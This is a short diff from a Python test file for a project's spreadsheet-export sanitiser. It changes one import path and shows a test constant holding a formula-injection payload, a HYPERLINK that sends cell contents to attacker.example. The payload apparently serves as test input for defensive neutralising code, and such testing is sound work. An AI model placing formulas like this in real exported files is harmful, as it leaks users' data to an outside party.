@@ -15,7 +15,7 @@ import pytest
 from lupus_sct.cli.interop_tables import _write_report
 from lupus_sct.interop.spreadsheet_safe import neutralise_cell, neutralise_frame
 from lupus_sct.interop.table_export import write_tables
-from lupus_sct.services.table_import import RowProblem
+from lupus_sct.services.imports.table_import import RowProblem
 
 FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'
 
